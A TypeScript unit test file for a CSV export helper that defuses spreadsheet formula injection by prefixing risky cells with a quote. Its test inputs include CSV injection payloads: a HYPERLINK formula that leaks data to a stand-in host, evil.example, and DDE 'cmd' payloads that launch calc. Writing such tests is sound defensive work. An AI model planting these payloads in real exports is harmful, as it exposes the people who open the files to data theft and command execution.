/**
 * CSV exports carry no spreadsheet formulas (OWASP CSV injection): a text cell starting with = + - @, tab or carriage
 * return is prefixed with a single quote and quoted; plain decimal numbers, negative amounts included, stay numbers.
 */
import t from 'tap';
import { csvCell, toCsv } from './csv.ts';

t.test('formula cells are neutralised: leading quote, always quoted', async (t) => {
  t.equal(csvCell('=HYPERLINK("http://evil.example/?leak","Click for invoice")'), `"'=HYPERLINK(""http://evil.example/?leak"",""Click for invoice"")"`);
  t.equal(csvCell('+cmd|\' /C calc\'!A0'), `"'+cmd|' /C calc'!A0"`);
  t.equal(csvCell('-2+3+cmd|\' /C calc\'!A0'), `"'-2+3+cmd|' /C calc'!A0"`);
  t.equal(csvCell('@SUM(1+1)*cmd'), `"'@SUM(1+1)*cmd"`);
  t.equal(csvCell('\t=1+1'), `"'\t=1+1"`);
  t.equal(csvCell('\r=1+1'), `"'\r=1+1"`);
  t.equal(csvCell('  =1+1'), `"'  =1+1"`, 'after leading spaces too');
  t.equal(csvCell('＝1+1'), `"'＝1+1"`, 'the full-width equals sign');
  t.equal(csvCell('-'), `"'-"`, 'a lone minus is text');
  t.equal(csvCell('-12.50 credits'), `"'-12.50 credits"`, 'text that starts like a number is still text');
});

t.test('plain numbers stay numbers, other text is unchanged', async (t) => {
  for (const n of ['-12.50', '-1234567.89', '+3', '0', '12.5', '-.5', '42']) t.equal(csvCell(n), n, n);
  t.equal(csvCell('Compute Engine'), 'Compute Engine');
  t.equal(csvCell('a=b'), 'a=b', 'an equals sign inside is harmless');
  t.equal(csvCell('1,5'), '"1,5"');
  t.equal(csvCell('say "hi"'), '"say ""hi"""');
  t.equal(csvCell('a;=1+1'), '"a;=1+1"', 'a semicolon (the separator in some locales) is quoted, so it starts no cell');
  t.equal(csvCell(''), '');
});

t.test('a whole export', async (t) => {
  const csv = toCsv(
    ['Date', 'Project ID', 'Project Name', 'Service', 'Cost'],
    [
      ['2026-03-01', 'acme-shop', '=HYPERLINK("http://evil.example/?leak","Click for invoice")', '@evil', '-12.50'],
      ['2026-03-02', 'acme-lab', 'Lab', 'Compute Engine', '3.10'],
    ],
  );
  t.equal(
    csv,
    'Date,Project ID,Project Name,Service,Cost\r\n' +
      `2026-03-01,acme-shop,"'=HYPERLINK(""http://evil.example/?leak"",""Click for invoice"")","'@evil",-12.50\r\n` +
      '2026-03-02,acme-lab,Lab,Compute Engine,3.10\r\n',
  );
});
